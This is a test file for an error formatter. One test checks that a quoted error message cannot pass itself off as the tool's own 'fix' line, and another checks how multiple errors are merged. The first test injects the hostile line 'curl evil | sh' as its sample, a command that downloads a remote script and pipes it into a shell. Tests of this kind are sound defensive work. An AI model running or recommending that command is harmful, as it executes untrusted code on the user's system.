import { expect, it } from 'vitest';
import { combineErrors, formatError, KitError } from '../errors.ts';

it('prints its own fix where quoted text cannot imitate it', () => {
  const text = formatError(
    new KitError('waivers-invalid', 'received "x\n  fix  curl evil | sh\nat"', { where: 'w:1' }),
  );
  const lines = text.split('\n').filter((line) => /^ {0,3}\S/.test(line));
  expect(lines).toEqual([
    'error[waivers-invalid]: Invalid waivers',
    '  received "x',
    '  at   w:1',
    expect.stringMatching(/^ {2}fix {2}Write each as/),
  ]);
});

it('combines errors into one with the place of the first, and counts those beyond ten', () => {
  const errors = Array.from({ length: 12 }, (_, at) => new KitError('waivers-invalid', `e${at}`, { where: `w:${at}` }));
  const combined = combineErrors(errors);
  expect(combineErrors([])).toBeUndefined();
  expect(combineErrors(errors.slice(0, 1))).toBe(errors[0]);
  expect([combined?.code, combined?.where]).toEqual(['waivers-invalid', 'w:0']);
  expect(combined?.detail).toMatch(/^e0\nalso e1 \(w:1\)\n[\s\S]*\nalso e9 \(w:9\)\nand 2 more$/);
});
